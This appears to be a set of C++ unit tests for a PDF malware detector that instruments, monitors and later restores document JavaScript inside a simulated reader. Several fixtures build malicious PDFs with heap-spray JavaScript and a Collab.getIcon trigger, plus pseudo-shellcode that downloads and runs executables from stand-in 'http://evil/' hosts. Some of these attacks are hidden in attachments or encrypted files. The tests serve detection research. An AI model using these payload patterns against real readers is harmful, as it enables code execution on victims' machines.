TEST(IdentityGolden, OutputsFeaturesVerdictsAndTracesMatchSeedAtEveryWidth) {
  const std::vector<BatchItem> items = golden_corpus();
  const bool print = std::getenv("PDFSHIELD_PRINT_GOLDEN") != nullptr;

  for (std::size_t jobs : {1u, 2u, 8u}) {
    SCOPED_TRACE("jobs=" + std::to_string(jobs));
    const Digests d = run_batch(items, jobs);
    if (print) {
      std::printf(
          "jobs=%zu output=0x%08xu features=0x%08xu verdicts=0x%08xu "
          "trace=0x%08xu\n",
          jobs, d.output, d.features, d.verdicts, d.trace);
      continue;
    }
    EXPECT_EQ(d.output, kGoldenOutputCrc);
    EXPECT_EQ(d.features, kGoldenFeatureCrc);
    EXPECT_EQ(d.verdicts, kGoldenVerdictCrc);
    EXPECT_EQ(d.trace, kGoldenTraceCrc);
  }
}

}  // namespace
}  // namespace pdfshield
