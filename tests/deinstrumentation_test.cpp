// Tests for the de-instrumentation policy (§III-F): open-count thresholds,
// randomized retention, suspicious-reset, and the full background job
// (instrumented file -> benign verdicts -> restored original file).
#include <gtest/gtest.h>

#include "core/deinstrumentation.hpp"
#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

TEST(DeinstrumentPolicy, DefaultDeinstrumentsAfterOneCleanOpen) {
  co::DeinstrumentationManager manager;
  sp::Rng rng(1);
  EXPECT_TRUE(manager.note_benign_open("doc-a", rng));
  EXPECT_EQ(manager.benign_streak("doc-a"), 0);  // reset after decision
}

TEST(DeinstrumentPolicy, ThresholdRequiresConsecutiveCleanOpens) {
  co::DeinstrumentationPolicy policy;
  policy.benign_opens_required = 3;
  co::DeinstrumentationManager manager(policy);
  sp::Rng rng(2);
  EXPECT_FALSE(manager.note_benign_open("doc", rng));
  EXPECT_FALSE(manager.note_benign_open("doc", rng));
  EXPECT_EQ(manager.benign_streak("doc"), 2);
  EXPECT_TRUE(manager.note_benign_open("doc", rng));
}

TEST(DeinstrumentPolicy, SuspiciousActivityResetsStreak) {
  co::DeinstrumentationPolicy policy;
  policy.benign_opens_required = 2;
  co::DeinstrumentationManager manager(policy);
  sp::Rng rng(3);
  EXPECT_FALSE(manager.note_benign_open("doc", rng));
  manager.note_suspicious("doc");
  EXPECT_EQ(manager.benign_streak("doc"), 0);
  EXPECT_FALSE(manager.note_benign_open("doc", rng));
  EXPECT_TRUE(manager.note_benign_open("doc", rng));
}

TEST(DeinstrumentPolicy, RandomizedRetentionKeepsSomeDocumentsLonger) {
  co::DeinstrumentationPolicy policy;
  policy.benign_opens_required = 1;
  policy.keep_probability = 0.5;
  co::DeinstrumentationManager manager(policy);
  sp::Rng rng(4);
  int deinstrumented = 0;
  const int trials = 200;
  for (int i = 0; i < trials; ++i) {
    if (manager.note_benign_open("doc-" + std::to_string(i), rng)) {
      ++deinstrumented;
    }
  }
  // Roughly half survive the coin flip; bounds are generous.
  EXPECT_GT(deinstrumented, trials / 4);
  EXPECT_LT(deinstrumented, trials * 3 / 4);
}

TEST(DeinstrumentPolicy, StreaksAreIndependentPerDocument) {
  co::DeinstrumentationPolicy policy;
  policy.benign_opens_required = 2;
  co::DeinstrumentationManager manager(policy);
  sp::Rng rng(5);
  EXPECT_FALSE(manager.note_benign_open("a", rng));
  EXPECT_FALSE(manager.note_benign_open("b", rng));
  EXPECT_TRUE(manager.note_benign_open("a", rng));
  EXPECT_EQ(manager.benign_streak("b"), 1);
}

TEST(DeinstrumentJob, RestoredFileRunsWithoutMonitoringTraffic) {
  // Full cycle: instrument -> open (benign) -> de-instrument in background
  // -> the restored file produces no SOAP traffic on its next open.
  sy::Kernel kernel;
  sp::Rng rng(6);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  cp::DocumentBuilder builder(rng);
  builder.add_pages(2, 300);
  builder.set_open_action_js("var sum = 0; for (var i = 0; i < 9; i++) sum += i;");
  const sp::Bytes original = builder.build();

  co::FrontEndResult fe = frontend.process(original);
  ASSERT_TRUE(fe.ok);
  detector.register_document(fe.record.key, "report.pdf", fe.features);
  reader.open_document(fe.output, "report.pdf");
  ASSERT_FALSE(detector.verdict(fe.record.key).malicious);

  co::DeinstrumentationManager manager;
  ASSERT_TRUE(manager.note_benign_open(fe.record.key.combined(), rng));
  const sp::Bytes restored = co::deinstrument_file(fe.output, fe.record);

  // The restored document carries the original script, byte for byte.
  pd::Document doc = pd::parse_document(restored);
  const auto sites = co::analyze_js_chains(doc).sites;
  ASSERT_EQ(sites.size(), 1u);
  EXPECT_EQ(sites[0].source,
            "var sum = 0; for (var i = 0; i < 9; i++) sum += i;");
  EXPECT_EQ(sites[0].source.find("SOAP"), std::string::npos);

  // Opening it produces zero monitoring traffic (count SOAP round-trips
  // via a fresh reader with a counting endpoint).
  sy::Kernel kernel2;
  rd::ReaderSim reader2(kernel2);
  int soap_calls = 0;
  reader2.set_soap_endpoint("http://127.0.0.1:8777/",
                            [&](const pdfshield::js::Value&) {
                              ++soap_calls;
                              return pdfshield::js::Value();
                            });
  auto r = reader2.open_document(restored, "report.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_EQ(soap_calls, 0);
}

TEST(RecordPersistence, SerializeParseRoundTrip) {
  sp::Rng rng(7);
  co::InstrumentationRecord record;
  record.key = co::generate_document_key(rng, co::generate_detector_id(rng));
  record.entries.push_back({12, true, 14, "var original = 'with spaces\nand newlines';"});
  record.entries.push_back({20, false, 20, "plain();"});
  const std::string text = co::serialize_record(record);
  const auto parsed = co::parse_record(text);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->key, record.key);
  ASSERT_EQ(parsed->entries.size(), 2u);
  EXPECT_EQ(parsed->entries[0].object_num, 12);
  EXPECT_TRUE(parsed->entries[0].in_stream);
  EXPECT_EQ(parsed->entries[0].code_object, 14);
  EXPECT_EQ(parsed->entries[0].original, record.entries[0].original);
  EXPECT_EQ(parsed->entries[1].original, "plain();");
}

TEST(RecordPersistence, RejectsMalformedInput) {
  EXPECT_FALSE(co::parse_record("").has_value());
  EXPECT_FALSE(co::parse_record("not a record").has_value());
  EXPECT_FALSE(co::parse_record("pdfshield-record v1\nkey bad-key\n").has_value());
  EXPECT_FALSE(co::parse_record("pdfshield-record v1\n").has_value());  // no key
  EXPECT_FALSE(
      co::parse_record("pdfshield-record v1\n"
                       "key 0123456789abcdef-0123456789abcdef\n"
                       "entry 1 1 stream not-base64!!\n")
          .has_value());
}

TEST(RecordPersistence, RoundTripDrivesDeinstrumentation) {
  // Full loop: instrument -> serialize record -> parse -> restore.
  sy::Kernel kernel;
  sp::Rng rng(8);
  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var certified = 'original';");
  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.ok);

  const auto reparsed = co::parse_record(co::serialize_record(fe.record));
  ASSERT_TRUE(reparsed.has_value());
  const sp::Bytes restored = co::deinstrument_file(fe.output, *reparsed);
  pd::Document doc = pd::parse_document(restored);
  const auto sites = co::analyze_js_chains(doc).sites;
  ASSERT_EQ(sites.size(), 1u);
  EXPECT_EQ(sites[0].source, "var certified = 'original';");
}
