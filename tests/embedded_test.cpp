// Tests for embedded-PDF handling (§VI future work, implemented):
// attachment plumbing, the reader opening PDF attachments launched via
// exportDataObject, recursive front-end instrumentation, and end-to-end
// detection of an attack hidden entirely inside an attachment.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/jschain.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

namespace {

sp::Bytes inner_malicious_pdf(sp::Rng& rng) {
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/in.exe", "c:/in.exe"}});
  prog.ops.push_back({"EXEC", {"c:/in.exe"}});
  cp::DocumentBuilder inner(rng);
  inner.add_blank_page();
  inner.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
  return inner.build();
}

sp::Bytes host_with_attachment(sp::Rng& rng, const sp::Bytes& attachment,
                               bool launch = true) {
  cp::DocumentBuilder host(rng);
  host.add_pages(3, 500);
  host.add_embedded_file("update.pdf", attachment);
  if (launch) {
    host.set_open_action_js(
        "this.exportDataObject({cName: 'update.pdf', nLaunch: 2});");
  }
  return host.build();
}

}  // namespace

TEST(Embedded, BuilderCreatesEmbeddedFilesTree) {
  sp::Rng rng(1);
  const sp::Bytes host = host_with_attachment(rng, sp::to_bytes("%PDF-1.4 inner"));
  pd::Document doc = pd::parse_document(host);
  const pd::Object* cat = doc.catalog();
  ASSERT_NE(cat, nullptr);
  const pd::Object* names = doc.resolved_find(cat->dict_or_stream_dict(), "Names");
  ASSERT_NE(names, nullptr);
  const pd::Object* ef = doc.resolved_find(names->as_dict(), "EmbeddedFiles");
  ASSERT_NE(ef, nullptr);
}

TEST(Embedded, ReaderOpensPdfAttachmentOnLaunch) {
  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  sp::Rng rng(2);
  const sp::Bytes host = host_with_attachment(rng, inner_malicious_pdf(rng));
  auto r = reader.open_document(host, "host.pdf");
  EXPECT_TRUE(r.js_ran);
  // The inner document opened and exploited: the dropped file exists.
  EXPECT_TRUE(kernel.fs().exists("c:/in.exe"));
  EXPECT_EQ(reader.open_count(), 2u);  // host + embedded
}

TEST(Embedded, NonPdfAttachmentLaunchesProcessInstead) {
  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  sp::Rng rng(3);
  const sp::Bytes host = host_with_attachment(rng, sp::to_bytes("MZ binary"));
  reader.open_document(host, "host.pdf");
  bool spawned = false;
  for (const auto& [pid, proc] : kernel.processes()) {
    if (proc->image() == "c:/temp/update.pdf") spawned = true;
  }
  EXPECT_TRUE(spawned);
}

TEST(Embedded, UnlaunchedAttachmentStaysClosed) {
  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  sp::Rng rng(4);
  const sp::Bytes host =
      host_with_attachment(rng, inner_malicious_pdf(rng), /*launch=*/false);
  reader.open_document(host, "host.pdf");
  EXPECT_EQ(reader.open_count(), 1u);
  EXPECT_FALSE(kernel.fs().exists("c:/in.exe"));
}

TEST(Embedded, FrontEndInstrumentsEmbeddedPdf) {
  sp::Rng rng(5);
  const sp::Bytes host = host_with_attachment(rng, inner_malicious_pdf(rng));
  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
  co::FrontEndResult r = frontend.process(host);
  ASSERT_TRUE(r.ok);
  ASSERT_EQ(r.embedded.size(), 1u);
  EXPECT_EQ(r.embedded[0].record.entries.size(), 1u);
  // Host and embedded get distinct keys.
  EXPECT_NE(r.embedded[0].record.key.document_key,
            r.record.key.document_key);

  // The rewritten attachment carries monitoring code.
  pd::Document out = pd::parse_document(r.output);
  bool found_instrumented_inner = false;
  for (const auto& [num, obj] : out.objects()) {
    if (!obj.is_stream()) continue;
    const pd::Object* type = obj.as_stream().dict.find("Type");
    if (!type || !type->is_name() || type->as_name().value != "EmbeddedFile") {
      continue;
    }
    pd::Document inner = pd::parse_document(obj.as_stream().data);
    for (const auto& site : co::analyze_js_chains(inner).sites) {
      if (site.source.find("SOAP.request") != std::string::npos) {
        found_instrumented_inner = true;
      }
    }
  }
  EXPECT_TRUE(found_instrumented_inner);
}

TEST(Embedded, DepthCapStopsRecursiveBombs) {
  sp::Rng rng(6);
  // PDF inside PDF inside PDF inside PDF.
  sp::Bytes current = inner_malicious_pdf(rng);
  for (int i = 0; i < 4; ++i) current = host_with_attachment(rng, current);
  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
  co::FrontEndResult r = frontend.process(current);
  EXPECT_TRUE(r.ok);  // must terminate and stay sane
}

TEST(Embedded, EndToEndEmbeddedAttackDetectedAndConfined) {
  sy::Kernel kernel;
  sp::Rng rng(7);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  cp::CorpusGenerator gen;
  cp::Sample sample = gen.generate_embedded_attack_sample(0);
  co::FrontEndResult fe = frontend.process(sample.data);
  ASSERT_TRUE(fe.ok);
  detector.register_document(fe.record.key, sample.name, fe.features);
  for (const auto& emb : fe.embedded) {
    detector.register_document(emb.record.key, sample.name + ":" + emb.name,
                               emb.features);
  }
  reader.open_document(fe.output, sample.name);

  // The embedded document's context carried the attack.
  ASSERT_FALSE(fe.embedded.empty());
  const co::Verdict inner_verdict = detector.verdict(fe.embedded[0].record.key);
  EXPECT_TRUE(inner_verdict.malicious) << "score=" << inner_verdict.malscore;
  // Confinement reached the dropped executable.
  bool dropped_unquarantined = false;
  for (const auto& f : kernel.fs().list()) {
    if (f.find(".exe") != std::string::npos &&
        !sy::VirtualFileSystem::is_quarantined(f) &&
        f.rfind("sandbox://", 0) != 0) {
      dropped_unquarantined = true;
    }
  }
  EXPECT_FALSE(dropped_unquarantined);
}

TEST(Embedded, BenignAttachmentStaysClean) {
  sy::Kernel kernel;
  sp::Rng rng(8);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  cp::DocumentBuilder inner(rng);
  inner.add_pages(1, 300);
  inner.set_open_action_js("var ok = 1 + 1;");
  cp::DocumentBuilder host(rng);
  host.add_pages(2, 300);
  host.add_embedded_file("notes.pdf", inner.build());
  host.set_open_action_js(
      "this.exportDataObject({cName: 'notes.pdf', nLaunch: 2});");

  co::FrontEndResult fe = frontend.process(host.build());
  ASSERT_TRUE(fe.ok);
  detector.register_document(fe.record.key, "host.pdf", fe.features);
  for (const auto& emb : fe.embedded) {
    detector.register_document(emb.record.key, emb.name, emb.features);
  }
  reader.open_document(fe.output, "host.pdf");
  EXPECT_FALSE(detector.verdict(fe.record.key).malicious);
  for (const auto& emb : fe.embedded) {
    EXPECT_FALSE(detector.verdict(emb.record.key).malicious);
  }
  EXPECT_TRUE(detector.alerts().empty());
}
