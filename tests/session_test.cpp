// Longitudinal session test: one deployment (detector + reader) processes
// a long stream of mixed documents, as a desktop deployment would across a
// workday. Verdicts must match ground truth document by document, state
// must not bleed between documents, and de-instrumentation bookkeeping
// must track every benign close.
#include <gtest/gtest.h>

#include "core/deinstrumentation.hpp"
#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "reader/reader_sim.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

TEST(Session, FortyMixedDocumentsOneDeployment) {
  // Non-crashing families only: a crashed reader ends the session, which
  // is its own (already-tested) scenario.
  cp::CorpusConfig cfg;
  cfg.seed = 0x5E55;
  cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
  cp::CorpusGenerator gen(cfg);

  sy::Kernel kernel;
  sp::Rng rng(1);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);
  co::DeinstrumentationManager manager;

  // Interleave benign and malicious.
  auto benign = gen.generate_benign_with_js(20);
  auto malicious = gen.generate_malicious(20);
  std::size_t correct = 0, total = 0, deinstrumented = 0, expected_alerts = 0;

  for (std::size_t i = 0; i < 20; ++i) {
    for (int side = 0; side < 2; ++side) {
      const cp::Sample& s = side == 0 ? benign[i] : malicious[i];
      co::FrontEndResult fe = frontend.process(s.data);
      ASSERT_TRUE(fe.ok) << s.name;
      detector.register_document(fe.record.key, s.name, fe.features);
      reader.open_document(fe.output, s.name);
      ASSERT_FALSE(reader.process().crashed()) << s.name;
      reader.close_document(s.name);

      const bool verdict = detector.verdict(fe.record.key).malicious;
      const bool expected = s.malicious && s.expect_detectable;
      if (expected) ++expected_alerts;
      ++total;
      if (verdict == expected) {
        ++correct;
      } else {
        ADD_FAILURE() << s.name << " family=" << s.family << " verdict="
                      << verdict << " expected=" << expected;
      }
      if (!verdict && manager.note_benign_open(fe.record.key.combined(), rng)) {
        ++deinstrumented;
      }
    }
  }

  EXPECT_EQ(correct, total);
  EXPECT_EQ(detector.alerts().size(), expected_alerts);
  // Every benign document (and every undetectable noise sample) got
  // de-instrumented after its clean close.
  EXPECT_EQ(deinstrumented, total - expected_alerts);
  // Memory hygiene: closing everything returns the reader near baseline.
  EXPECT_EQ(reader.open_count(), 0u);
}

TEST(Session, BookmarkSetActionIsCoveredAtRuntime) {
  // Table IV's last method: stage-2 installed via Bookmark.setAction.
  sy::Kernel kernel;
  sp::Rng rng(2);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  const std::string stage2 = "Collab.getIcon(keep.substring(0, 1500));";
  const std::string script =
      "var unit = unescape('%u9090%u9090') + "
      "'SC{DROP:http://evil/bm.exe>c:/bm.exe;EXEC:c:/bm.exe}';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray;"
      "this.bookmarkRoot.setAction('" + stage2 + "');";

  sp::Rng doc_rng(3);
  pdfshield::corpus::DocumentBuilder builder(doc_rng);
  builder.add_blank_page();
  builder.set_open_action_js(script);
  co::FrontEndResult fe = frontend.process(builder.build());
  detector.register_document(fe.record.key, "bookmark.pdf", fe.features);
  reader.open_document(fe.output, "bookmark.pdf");
  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/bm.exe"));
}
