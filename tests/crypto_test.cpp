// Tests for the PDF encryption substrate: MD5 vectors, RC4 vectors, the
// Standard security handler (O/U entries, key derivation, password
// verification), whole-document encrypt/decrypt round-trips, and the
// front-end's owner-password-removal step (§III-A) end to end.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "pdf/crypto.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "support/encoding.hpp"
#include "support/md5.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

// ---------------------------------------------------------------------------
// MD5 (RFC 1321 §A.5 test suite)
// ---------------------------------------------------------------------------

TEST(Md5, Rfc1321Vectors) {
  EXPECT_EQ(sp::md5_hex(""), "d41d8cd98f00b204e9800998ecf8427e");
  EXPECT_EQ(sp::md5_hex("a"), "0cc175b9c0f1b6a831c399e269772661");
  EXPECT_EQ(sp::md5_hex("abc"), "900150983cd24fb0d6963f7d28e17f72");
  EXPECT_EQ(sp::md5_hex("message digest"), "f96b697d7cb7938d525a2f31aaf161d0");
  EXPECT_EQ(sp::md5_hex("abcdefghijklmnopqrstuvwxyz"),
            "c3fcd3d76192e4007dfb496cca67e13b");
  EXPECT_EQ(sp::md5_hex("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                        "0123456789"),
            "d174ab98d277d9f5a5611c2c9f419d9f");
  EXPECT_EQ(sp::md5_hex("1234567890123456789012345678901234567890123456789012"
                        "3456789012345678901234567890"),
            "57edf4a22be3c955ac49da2e2107b67a");
}

TEST(Md5, PaddingBoundaries) {
  // 55/56/64-byte messages cross the one-vs-two-block padding boundary.
  for (std::size_t n : {55u, 56u, 57u, 63u, 64u, 65u, 119u, 120u}) {
    const std::string msg(n, 'x');
    const sp::Md5Digest d = sp::md5(sp::to_bytes(msg));
    // Deterministic and stable across calls.
    EXPECT_EQ(sp::md5(sp::to_bytes(msg)), d) << n;
  }
}

// ---------------------------------------------------------------------------
// RC4 (well-known vectors)
// ---------------------------------------------------------------------------

TEST(Rc4, KnownVectors) {
  // "Key"/"Plaintext" -> BBF316E8D940AF0AD3
  EXPECT_EQ(sp::hex_encode(pd::rc4(sp::to_bytes("Key"), sp::to_bytes("Plaintext"))),
            "bbf316e8d940af0ad3");
  // "Wiki"/"pedia" -> 1021BF0420
  EXPECT_EQ(sp::hex_encode(pd::rc4(sp::to_bytes("Wiki"), sp::to_bytes("pedia"))),
            "1021bf0420");
  // "Secret"/"Attack at dawn" -> 45A01F645FC35B383552544B9BF5
  EXPECT_EQ(sp::hex_encode(pd::rc4(sp::to_bytes("Secret"),
                                   sp::to_bytes("Attack at dawn"))),
            "45a01f645fc35b383552544b9bf5");
}

TEST(Rc4, IsItsOwnInverse) {
  sp::Rng rng(9);
  const sp::Bytes key = rng.bytes(16);
  const sp::Bytes plain = rng.bytes(500);
  EXPECT_EQ(pd::rc4(key, pd::rc4(key, plain)), plain);
}

// ---------------------------------------------------------------------------
// Standard security handler
// ---------------------------------------------------------------------------

namespace {

pd::EncryptionParams demo_params(const std::string& owner, int revision) {
  pd::EncryptionParams p;
  p.revision = revision;
  p.key_length_bytes = revision >= 3 ? 16 : 5;
  sp::Rng rng(4);
  p.file_id = rng.bytes(16);
  p.o_entry = pd::compute_o_entry(owner, "", revision, p.key_length_bytes);
  p.u_entry = pd::compute_u_entry(p, "");
  return p;
}

}  // namespace

TEST(StdSecurity, EmptyUserPasswordVerifiesR2AndR3) {
  for (int revision : {2, 3}) {
    const pd::EncryptionParams p = demo_params("owner-secret", revision);
    EXPECT_TRUE(pd::verify_user_password(p, "")) << "R" << revision;
    EXPECT_FALSE(pd::verify_user_password(p, "wrong")) << "R" << revision;
  }
}

TEST(StdSecurity, NonEmptyUserPasswordVerifies) {
  pd::EncryptionParams p;
  p.revision = 3;
  p.key_length_bytes = 16;
  sp::Rng rng(5);
  p.file_id = rng.bytes(16);
  p.o_entry = pd::compute_o_entry("owner", "user-pass", 3, 16);
  p.u_entry = pd::compute_u_entry(p, "user-pass");
  EXPECT_TRUE(pd::verify_user_password(p, "user-pass"));
  EXPECT_FALSE(pd::verify_user_password(p, ""));
}

TEST(StdSecurity, ObjectDataRoundTrips) {
  const sp::Bytes key = sp::to_bytes("0123456789abcdef");
  const sp::Bytes plain = sp::to_bytes("app.alert('secret script');");
  const sp::Bytes enc = pd::crypt_object_data(key, 12, 0, plain);
  EXPECT_NE(enc, plain);
  EXPECT_EQ(pd::crypt_object_data(key, 12, 0, enc), plain);
  // Different object numbers use different keys.
  EXPECT_NE(pd::crypt_object_data(key, 13, 0, plain), enc);
}

TEST(StdSecurity, DocumentEncryptDecryptRoundTrip) {
  sp::Rng rng(6);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(2, 300);
  builder.set_info("Title", "Protected report");
  builder.set_open_action_js("var v = 41 + 1;");
  pd::Document& doc = builder.document();
  const std::string original_js =
      co::analyze_js_chains(doc).sites.at(0).source;

  pd::encrypt_document(doc, "0wn3r", rng);
  EXPECT_TRUE(pd::is_encrypted(doc));
  // Javascript is now ciphertext.
  EXPECT_NE(co::analyze_js_chains(doc).sites.at(0).source, original_js);

  ASSERT_TRUE(pd::decrypt_document(doc, ""));
  EXPECT_FALSE(pd::is_encrypted(doc));
  EXPECT_EQ(co::analyze_js_chains(doc).sites.at(0).source, original_js);
}

TEST(StdSecurity, EncryptedFileSurvivesWriteParse) {
  sp::Rng rng(7);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var marker = 'find-me';");
  pd::encrypt_document(builder.document(), "owner!", rng);
  const sp::Bytes file = builder.build();

  // Ciphertext on disk: the plaintext marker must not appear.
  EXPECT_EQ(sp::to_string(file).find("find-me"), std::string::npos);

  pd::Document again = pd::parse_document(file);
  ASSERT_TRUE(pd::is_encrypted(again));
  ASSERT_TRUE(pd::decrypt_document(again, ""));
  EXPECT_NE(co::analyze_js_chains(again).sites.at(0).source.find("find-me"),
            std::string::npos);
}

TEST(StdSecurity, WrongPasswordRefusesDecryption) {
  sp::Rng rng(8);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var x = 1;");
  pd::Document& doc = builder.document();
  // Protect with a real *user* password: empty no longer verifies.
  pd::EncryptionParams p;
  p.revision = 3;
  p.key_length_bytes = 16;
  p.file_id = rng.bytes(16);
  p.o_entry = pd::compute_o_entry("owner", "userpw", 3, 16);
  p.u_entry = pd::compute_u_entry(p, "userpw");
  pd::Dict enc;
  enc.set("Filter", pd::Object::name("Standard"));
  enc.set("V", pd::Object(2));
  enc.set("R", pd::Object(3));
  enc.set("Length", pd::Object(128));
  enc.set("P", pd::Object(static_cast<std::int64_t>(p.permissions)));
  enc.set("O", pd::Object(pd::String{p.o_entry, true}));
  enc.set("U", pd::Object(pd::String{p.u_entry, true}));
  doc.trailer().set("Encrypt", pd::Object(enc));
  doc.trailer().set("ID", pd::Object(pd::Array{
                              pd::Object(pd::String{p.file_id, true}),
                              pd::Object(pd::String{p.file_id, true})}));
  EXPECT_FALSE(pd::decrypt_document(doc, ""));
  EXPECT_TRUE(pd::decrypt_document(doc, "userpw"));
}

// ---------------------------------------------------------------------------
// Front-end + reader integration (§III-A owner-password removal)
// ---------------------------------------------------------------------------

TEST(EncryptedPipeline, FrontEndRemovesOwnerPassword) {
  sp::Rng rng(10);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("app.alert('hello');");
  pd::encrypt_document(builder.document(), "antianalysis", rng);
  const sp::Bytes file = builder.build();

  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
  co::FrontEndResult r = frontend.process(file);
  ASSERT_TRUE(r.ok) << r.error;
  EXPECT_TRUE(r.password_removed);
  EXPECT_EQ(r.record.entries.size(), 1u);
  // Output is decrypted and instrumented.
  pd::Document out = pd::parse_document(r.output);
  EXPECT_FALSE(pd::is_encrypted(out));
  EXPECT_NE(co::analyze_js_chains(out).sites.at(0).source.find("SOAP.request"),
            std::string::npos);
}

TEST(EncryptedPipeline, EncryptedMaliciousSampleStillDetected) {
  sy::Kernel kernel;
  sp::Rng rng(11);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/enc.exe", "c:/enc.exe"}});
  prog.ops.push_back({"EXEC", {"c:/enc.exe"}});
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
  pd::encrypt_document(builder.document(), "h1dden", rng);

  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.ok);
  EXPECT_TRUE(fe.password_removed);
  detector.register_document(fe.record.key, "enc.pdf", fe.features);
  reader.open_document(fe.output, "enc.pdf");
  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/enc.exe"));
}

TEST(EncryptedPipeline, ReaderOpensEncryptedDocTransparently) {
  // Un-instrumented encrypted doc straight into the reader: Acrobat
  // decrypts with the empty user password and the JS runs.
  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  sp::Rng rng(12);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var ran = true;");
  pd::encrypt_document(builder.document(), "own", rng);
  auto r = reader.open_document(builder.build(), "enc-benign.pdf");
  EXPECT_TRUE(r.parsed);
  EXPECT_TRUE(r.js_ran);
}

TEST(EncryptedPipeline, CorpusGeneratesEncryptedSamples) {
  cp::CorpusConfig cfg;
  cfg.seed = 0xE2C;
  cfg.frac_owner_encrypted = 1.0;
  cp::CorpusGenerator gen(cfg);
  auto samples = gen.generate_malicious(5);
  for (const auto& s : samples) {
    EXPECT_NE(s.family.find("+encrypted"), std::string::npos) << s.family;
    pd::Document doc = pd::parse_document(s.data);
    EXPECT_TRUE(pd::is_encrypted(doc)) << s.name;
  }
}
