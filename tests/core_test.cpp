// Tests for the paper's core contribution: Javascript-chain analysis,
// static features F1–F5, key handling, monitor code generation, document
// instrumentation/de-instrumentation, and the runtime detector with
// confinement — including full instrumented-document end-to-end runs.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/instrumenter.hpp"
#include "core/jschain.hpp"
#include "core/keys.hpp"
#include "core/monitor_codegen.hpp"
#include "core/pipeline.hpp"
#include "core/static_features.hpp"
#include "js/interp.hpp"
#include "pdf/filters.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"

namespace co = pdfshield::core;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace js = pdfshield::js;
namespace sp = pdfshield::support;

namespace {

